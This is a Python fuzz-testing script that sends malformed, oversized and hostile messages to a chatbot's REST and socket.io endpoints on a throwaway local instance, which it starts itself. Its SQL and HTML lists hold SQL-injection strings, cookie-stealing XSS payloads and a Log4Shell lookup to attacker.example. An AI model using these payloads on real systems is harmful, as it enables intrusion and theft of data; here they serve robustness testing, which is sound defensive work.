"""`make fuzz`: bad input to the assistant's public channels, REST and socket.io.

A fixed-seed generator makes messages of each kind below (the same list for the same seed and
count); each goes to `/webhooks/rest/webhook` as a raw HTTP body and to the socket.io channel as
a `user_uttered` payload. What must hold, per message: REST answers 200 or 400, never 5xx, and
socket.io answers at least one bot message; over-long messages get the "too long" reply on both;
afterwards the assistant still answers a normal question on both channels.

`make fuzz` starts a throwaway assistant (the end-to-end tests' start-up: free ports, a
temporary data folder), sends 10,000 cases (FUZZ_COUNT) to each channel and prints the counts per
kind, the status codes, the errors and the duration; it exits 1 on any error.
`tests/e2e/test_bad_input.py` runs a smaller count in CI.
"""

from __future__ import annotations

import asyncio
import json
import os
import random
import sys
import tempfile
import threading
import time
import uuid
from collections import Counter
from collections.abc import Callable, Iterable, Iterator
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import requests
import socketio

from channels.inbound import MAX_MESSAGE_CHARS, TOO_LONG

SEED = 20250717
DEFAULT_COUNT = 10_000
CASES_PER_CONVERSATION = 25  # a new conversation now and then keeps trackers short, as real ones are
WORKERS = 4
RUNAWAY_REPLIES = 10  # Rasa's max_number_of_predictions: a turn this long was cut by its circuit breaker
REPLY_GRACE_STEPS = 300  # 3 s for a socket.io reply to arrive after the acknowledgement
SOCKETIO_MAX_BYTES = 900_000  # engine.io refuses packets over 1 MB (max_http_buffer_size) by disconnecting
NORMAL_QUESTION = "how much is it in korea?"

QUESTIONS = [
    "how much is it in korea?",
    "is the stem cell treatment safe",
    "which clinics do it in seoul",
    "how long is the recovery",
    "do I need a medical visa",
    "what is a hypertrophic scar",
]
WORDS = ["scar", "stem", "cell", "clinic", "price", "visa", "korea", "treatment", "recovery", "skin", "acne"]
WHITESPACE = [" ", "\t", "\n", "\r", "\u00a0", "\u2003", "\u200b", "\u3000", "\u2028", "\ufeff"]
CONTROL = [chr(code) for code in [*range(0x00, 0x20), 0x7F, *range(0x80, 0xA0)]]
FORMATTING = ["\u200e", "\u200f", "\u202a", "\u202b", "\u202d", "\u202e", "\u2066", "\u2067", "\u2069", "\u061c"]
EMOJI = ["😀", "🙏", "💉", "🧴", "🏥", "✈️", "🇰🇷", "👩🏽‍⚕️", "👨‍👩‍👧‍👦", "❤️‍🔥", "🫠", "🤷🏻‍♀️", "🔬", "💸", "😢"]
RTL = [
    "كم سعر العلاج في كوريا؟",
    "هل العلاج بالخلايا الجذعية آمن للندبات",
    "כמה עולה הטיפול בקוריאה?",
    "האם הטיפול בתאי גזע בטוח",
    "قیمت درمان در کره چقدر است",
    "علاج ندبات حب الشباب stem cell في سيول",
]
SQL = [
    "'; DROP TABLE events; --",
    "1' OR '1'='1",
    '" OR 1=1 --',
    "admin'--",
    "' UNION SELECT sender_id, data FROM events --",
    "1; DELETE FROM inquiries WHERE 1=1",
    "'); INSERT INTO inquiries (conversation_id) VALUES ('x'); --",
    "\\'; SELECT pg_sleep(10); --",
    "%' AND 1=0 UNION SELECT NULL, version() --",
    "'; EXEC xp_cmdshell('dir'); --",
]
HTML = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(document.cookie)>",
    '"><svg onload=alert(1)>',
    "<iframe src=javascript:alert(1)></iframe>",
    "[click](javascript:alert(1))",
    "{{7*7}} ${7*7} <%= 7*7 %>",
    "${jndi:ldap://attacker.example/a}",
    "<a href='https://evil.example'>prices</a>",
    "&lt;b&gt;bold&lt;/b&gt; &#x3C;script&#x3E;",
    "</textarea><script>fetch('/x')</script>",
]
COMBINING = [chr(code) for code in range(0x300, 0x370)]


@dataclass(frozen=True)
class Case:
    kind: str
    rest_body: bytes  # the raw HTTP body posted to the REST webhook
    socketio_payload: Any  # what a socket.io client emits as `user_uttered` (an object, or not)
    too_long: bool = False  # both channels must answer with the "too long" reply


def body(sender: Any, message: Any, **extra: Any) -> bytes:
    return json.dumps({"sender": sender, "message": message, **extra}, ensure_ascii=False).encode("utf-8")


def text_case(kind: str, sender: str, message: str) -> Case:
    return Case(kind, body(sender, message), {"message": fits_socketio(message)}, len(message) > MAX_MESSAGE_CHARS)


def fits_socketio(message: str) -> str:
    """The message, cut to what one socket.io packet carries (JSON-escaped, an emoji takes 12 bytes)."""
    while len(json.dumps(message)) > SOCKETIO_MAX_BYTES:
        message = message[: len(message) // 2]
    return message


def question(rng: random.Random) -> str:
    return rng.choice(QUESTIONS)


def empty(rng: random.Random, sender: str) -> Case:
    return text_case("empty", sender, "")


def whitespace(rng: random.Random, sender: str) -> Case:
    return text_case("whitespace", sender, "".join(rng.choices(WHITESPACE, k=rng.randint(1, 300))))


def long_100kb(rng: random.Random, sender: str) -> Case:
    unit = rng.choice([" ".join(rng.choices(WORDS, k=20)), "가나다라마바사 ", "😀", "x", RTL[0]])
    size = rng.choice([MAX_MESSAGE_CHARS + 1, 10_000, 100_000, 102_400])
    return text_case("long_100kb", sender, (unit * (size // len(unit) + 1))[:size])


def control_chars(rng: random.Random, sender: str) -> Case:
    noise = "".join(rng.choices(CONTROL + FORMATTING, k=rng.randint(1, 40)))
    parts = [question(rng), noise] if rng.random() < 0.7 else [noise]
    rng.shuffle(parts)
    return text_case("control_chars", sender, "".join(parts))


def invalid_utf8(rng: random.Random, sender: str) -> Case:
    """Bytes that are not UTF-8 in the body, and lone surrogates (valid JSON escapes, not encodable)."""
    junk = bytes(rng.choice([0x80, 0xBF, 0xC0, 0xC1, 0xF5, 0xFE, 0xFF, 0xED]) for _ in range(rng.randint(1, 12)))
    text = question(rng)
    if rng.random() < 0.5:
        raw = b'{"sender": "' + sender.encode() + b'", "message": "' + text.encode() + junk + b'"}'
        return Case("invalid_utf8", raw, {"message": junk})
    message = text + rng.choice(["\ud800", "\udfff", "\udc80\ud83d", "\ud83d"])
    return Case("invalid_utf8", json.dumps({"sender": sender, "message": message}).encode(), {"message": message})


def emoji(rng: random.Random, sender: str) -> Case:
    symbols = "".join(rng.choices(EMOJI, k=rng.randint(1, 30)))
    return text_case("emoji", sender, rng.choice([symbols, f"{question(rng)} {symbols}", f"{symbols} {question(rng)}"]))


def rtl(rng: random.Random, sender: str) -> Case:
    text = rng.choice(RTL)
    if rng.random() < 0.5:
        text = f"{rng.choice(FORMATTING)}{text} {question(rng)}{rng.choice(FORMATTING)}"
    return text_case("rtl", sender, text)


def sql_injection(rng: random.Random, sender: str) -> Case:
    payload = rng.choice(SQL)
    if rng.random() < 0.3:
        # The session id is a room every socket that asks for it joins: each case gets its own.
        session_id = f"{payload} {rng.randrange(10**9)}"
        return Case("sql_injection", body(payload, question(rng)), {"message": question(rng), "session_id": session_id})
    return text_case("sql_injection", sender, rng.choice([payload, f"{question(rng)} {payload}"]))


def html_injection(rng: random.Random, sender: str) -> Case:
    payload = rng.choice(HTML)
    return text_case("html_injection", sender, rng.choice([payload, f"{payload} {question(rng)}"]))


def zalgo(rng: random.Random, sender: str) -> Case:
    """Letters under piles of combining marks, and zero-width joiners between them."""
    text = "".join(letter + "".join(rng.choices(COMBINING, k=rng.randint(0, 8))) for letter in question(rng))
    return text_case("zalgo", sender, text)


def malformed_json(rng: random.Random, sender: str) -> Case:
    good = body(sender, question(rng)).decode()
    raw = rng.choice(
        [
            good[: rng.randint(0, len(good) - 1)],  # cut short
            good.replace(":", "=", 1),
            good[:-1] + ",}",
            "{'sender': 'x', 'message': 'hi'}",
            "null",
            "[]",
            '["sender", "message"]',
            "42",
            '"just a string"',
            "",
            json.dumps({"sender": sender}),
            json.dumps({"message": question(rng)}),
            json.dumps({"sender": sender, "message": rng.choice([42, None, True, ["a"], {"text": "hi"}])}),
            json.dumps({"sender": rng.choice([None, True, {}, [], "", " ", "x" * 200]), "message": "hi"}),
            json.dumps({"sender": sender, "message": "hi", "metadata": rng.choice(["x", 1, [1]])}),
            "{" * 50,
            "NaN",
            # numbers Python's parser refuses (more than 4,300 digits) and values JSON has no word for
            '{"sender": ' + "9" * 5000 + ', "message": "hi"}',
            json.dumps({"sender": sender, "message": "hi"})[:-1] + ', "metadata": {"n": ' + "1" * 5000 + "}}",
            json.dumps({"sender": sender, "message": "hi", "metadata": {"x": float("nan"), "y": float("inf")}}),
        ]
    )
    payload = rng.choice(
        [
            "just a string",
            ["message", question(rng)],
            42,
            True,
            {"message": rng.choice([42, None, True, ["a"], {"text": "hi"}])},
            {"text": question(rng)},
            {"message": question(rng), "session_id": rng.choice([None, 42, {}, [], "", "x" * 500])},
            {"message": question(rng), "metadata": rng.choice(["not json {", "[1, 2]", 7, [1]])},
            {"message": question(rng), "metadata": {"x": float("nan"), "y": float("-inf")}},
            {"message": question(rng), "metadata": '{"n": ' + "1" * 5000 + "}"},
            {},
            None,
        ]
    )
    return Case("malformed_json", raw.encode(), payload)


def oversized_json(rng: random.Random, sender: str) -> Case:
    """Bodies of 100 KB to 1 MB: very deep nesting, very many keys, a huge sender or message."""
    shape = rng.choice(["deep", "wide", "long_sender", "long_message"])
    if shape == "deep":
        depth = rng.choice([1_000, 100_000])
        raw = body(sender, question(rng))[:-1] + b', "metadata": {"a": ' + b"[" * depth + b"]" * depth + b"}}"
        return Case("oversized_json", raw, {"message": question(rng), "metadata": {"a": nested(200)}})
    if shape == "wide":
        metadata = {f"k{index}": "v" * 20 for index in range(5_000)}
        return Case("oversized_json", body(sender, question(rng), metadata=metadata), {"message": question(rng)})
    if shape == "long_sender":
        return Case("oversized_json", body("s" * 100_000, question(rng)), {"message": question(rng)})
    message = (" ".join(rng.choices(WORDS, k=50)) + " ") * rng.choice([1_000, 3_000])
    return Case("oversized_json", body(sender, message), {"message": fits_socketio(message)}, too_long=True)


def nested(depth: int) -> list:
    value: list = []
    for _ in range(depth):
        value = [value]
    return value


KINDS: dict[str, Callable[[random.Random, str], Case]] = {
    builder.__name__: builder
    for builder in [
        empty,
        whitespace,
        long_100kb,
        control_chars,
        invalid_utf8,
        emoji,
        rtl,
        sql_injection,
        html_injection,
        zalgo,
        malformed_json,
        oversized_json,
    ]
}


def generate(count: int, seed: int = SEED) -> Iterator[Case]:
    """`count` cases, the kinds taking turns, the same for the same seed."""
    rng = random.Random(seed)
    builders = list(KINDS.values())
    conversations = max(1, count // CASES_PER_CONVERSATION)
    for index in range(count):
        # Neighbouring cases, sent at the same time, belong to different conversations: Rasa
        # handles one message of a conversation at a time.
        yield builders[index % len(builders)](rng, f"fuzz-{seed}-{index % conversations}")


@dataclass
class Report:
    channel: str
    kinds: Counter = field(default_factory=Counter)
    outcomes: Counter = field(default_factory=Counter)  # status codes (REST) or what came back (socket.io)
    errors: list[str] = field(default_factory=list)
    runaway: Counter = field(default_factory=Counter)  # turns with RUNAWAY_REPLIES or more replies, by kind
    seconds: float = 0.0
    lock: threading.Lock = field(default_factory=threading.Lock, repr=False)

    def add(self, case: Case, outcome: str, error: str | None = None, replies: int = 0) -> None:
        with self.lock:
            self.kinds[case.kind] += 1
            self.outcomes[outcome] += 1
            if replies >= RUNAWAY_REPLIES:
                self.runaway[case.kind] += 1
            if error:
                self.errors.append(f"{case.kind}: {error}")

    def lines(self) -> list[str]:
        total = sum(self.kinds.values())
        return [
            f"{self.channel}: {total} messages in {self.seconds:.0f} s ({total / max(self.seconds, 0.001):.0f}/s)",
            "  kinds:    " + ", ".join(f"{kind} {count}" for kind, count in sorted(self.kinds.items())),
            "  outcomes: " + ", ".join(f"{outcome} {count}" for outcome, count in sorted(self.outcomes.items())),
            f"  errors:   {len(self.errors)}",
            f"  turns that hit Rasa's limit of {RUNAWAY_REPLIES} actions (the same reply repeated): "
            + (", ".join(f"{kind} {count}" for kind, count in sorted(self.runaway.items())) or "none"),
            *(f"    {error}" for error in self.errors[:20]),
        ]


def post_rest(session: requests.Session, url: str, case: Case) -> tuple[str, str | None, int]:
    """The status code, what is wrong with the answer (only 200 and 400 are fine), the number of replies."""
    try:
        headers = {"Content-Type": "application/json"}
        response = session.post(f"{url}/webhooks/rest/webhook", data=case.rest_body, headers=headers, timeout=120)
    except requests.RequestException as error:
        return "no answer", f"{type(error).__name__}: {error}", 0
    status = str(response.status_code)
    if response.status_code not in (200, 400):
        return status, f"HTTP {status}: {response.text[:200]}", 0
    replies = response.json() if response.status_code == 200 else []
    if case.too_long and [reply.get("text") for reply in replies] != [TOO_LONG]:
        return status, f"over-long message without the too-long reply: {response.text[:200]}", len(replies)
    return status, None, len(replies)


def send_rest(url: str, token: str, cases: Iterable[Case], workers: int = WORKERS) -> Report:
    """Posts each case's raw body from `workers` threads, taking the cases as they are generated,
    with the webhook's credential (`token`)."""
    report = Report("REST")
    pending, lock = iter(cases), threading.Lock()

    def work() -> None:
        session = requests.Session()
        session.headers["Authorization"] = f"Bearer {token}"
        while True:
            with lock:
                case = next(pending, None)
            if case is None:
                return
            report.add(case, *post_rest(session, url, case))

    started = time.monotonic()
    with ThreadPoolExecutor(max_workers=workers) as pool:
        for worker in [pool.submit(work) for _ in range(workers)]:
            worker.result()
    report.seconds = time.monotonic() - started
    return report


async def connected_client(url: str, received: list) -> socketio.AsyncClient:
    """A client on long polling: the locked python-engineio's asyncio websocket transport needs
    aiohttp 3.10 (`ClientWSTimeout`), and Rasa 3.6 keeps aiohttp at 3.9. The server's handlers are
    the same for both transports; the website widget's websocket is tested in a browser."""
    client = socketio.AsyncClient(reconnection=False)
    client.on("bot_uttered", received.append)
    await client.connect(url, transports=["polling"])
    return client


async def emit_socketio(
    client: socketio.AsyncClient, received: list, case: Case, session_id: str
) -> tuple[str, str | None, int]:
    """What came back for one case. The server acknowledges a message after its handler has sent
    every bot message of the turn; the client handles incoming events in tasks of their own, so
    the replies may be seen just after the acknowledgement: they get a moment to arrive."""
    payload = case.socketio_payload
    if isinstance(payload, dict) and "session_id" not in payload:
        payload = {**payload, "session_id": session_id}
    elif isinstance(payload, dict) and isinstance(payload["session_id"], str):
        await client.call("session_request", {"session_id": payload["session_id"]}, timeout=30)
    received.clear()
    try:
        await client.call("user_uttered", payload, timeout=120)
    except socketio.exceptions.SocketIOError as error:
        return "no answer", f"{type(error).__name__} {error} for {str(payload)[:120]!r}", 0
    for _ in range(REPLY_GRACE_STEPS):
        if received:
            break
        await asyncio.sleep(0.01)
    await asyncio.sleep(0.01)
    texts = [message.get("text", "") for message in received if isinstance(message, dict)]
    if not texts:
        return "silence", f"no bot message for {str(payload)[:120]!r}", 0
    if case.too_long and texts != [TOO_LONG]:
        return "answered", f"over-long message without the too-long reply: {texts[0][:120]!r}", len(texts)
    return ("too long reply" if TOO_LONG in texts else "answered"), None, len(texts)


def send_socketio(url: str, cases: Iterable[Case], workers: int = WORKERS) -> Report:
    """`workers` clients, each taking the next case when its last one was answered; a new
    conversation every CASES_PER_CONVERSATION cases, a new connection after a failure."""
    report = Report("socket.io")
    pending = iter(cases)

    async def work() -> None:
        received: list = []
        client = await connected_client(url, received)
        try:
            for index, case in enumerate(pending):
                if index % CASES_PER_CONVERSATION == 0:
                    session_id = f"fuzz-socket-{uuid.uuid4().hex}"
                    await client.call("session_request", {"session_id": session_id}, timeout=30)
                outcome, error, replies = await emit_socketio(client, received, case, session_id)
                report.add(case, outcome, error, replies)
                if outcome == "no answer":
                    await client.disconnect()
                    client = await connected_client(url, received)
                    await client.call("session_request", {"session_id": session_id}, timeout=30)
        finally:
            await client.disconnect()

    async def run_all() -> None:
        await asyncio.gather(*(work() for _ in range(workers)))

    started = time.monotonic()
    asyncio.run(run_all())
    report.seconds = time.monotonic() - started
    return report


def answers_normally(url: str, token: str) -> dict[str, str]:
    """The reply to a normal question on each channel after the fuzzing: it must still give prices."""
    rest = requests.post(
        f"{url}/webhooks/rest/webhook",
        json={"sender": "fuzz-after", "message": NORMAL_QUESTION},
        headers={"Authorization": f"Bearer {token}"},
        timeout=60,
    )
    replies = {"REST": "\n".join(reply.get("text", "") for reply in rest.json())}

    async def ask_socketio() -> str:
        received: list[dict] = []
        client = await connected_client(url, received)
        try:
            await client.call("session_request", {"session_id": "fuzz-after-socket"}, timeout=30)
            await client.call(
                "user_uttered", {"message": NORMAL_QUESTION, "session_id": "fuzz-after-socket"}, timeout=60
            )
        finally:
            await client.disconnect()
        return "\n".join(message.get("text", "") for message in received)

    replies["socket.io"] = asyncio.run(ask_socketio())
    return replies


def main() -> int:
    # The end-to-end tests' start-up, imported here only: the generator and senders need no pytest.
    from tests.e2e.conftest import start_assistant

    count = int(os.environ.get("FUZZ_COUNT", DEFAULT_COUNT))
    with tempfile.TemporaryDirectory(prefix="fuzz-") as folder:
        assistant = start_assistant(Path(folder))
        server = next(assistant)
        try:
            print(f"fuzz: {count} cases (seed {SEED}) to each channel of {server.url}", flush=True)
            reports = []
            reports.append(send_rest(server.url, server.token, generate(count)))
            print("\n".join(reports[-1].lines()), flush=True)
            reports.append(send_socketio(server.url, generate(count)))
            print("\n".join(reports[-1].lines()), flush=True)
            after = answers_normally(server.url, server.token)
        finally:
            assistant.close()
    broken = [channel for channel, reply in after.items() if "₩" not in reply]
    print("afterwards, a normal question is", f"NOT answered on {', '.join(broken)}" if broken else "answered on both")
    return 1 if broken or any(report.errors for report in reports) else 0


if __name__ == "__main__":
    sys.exit(main())
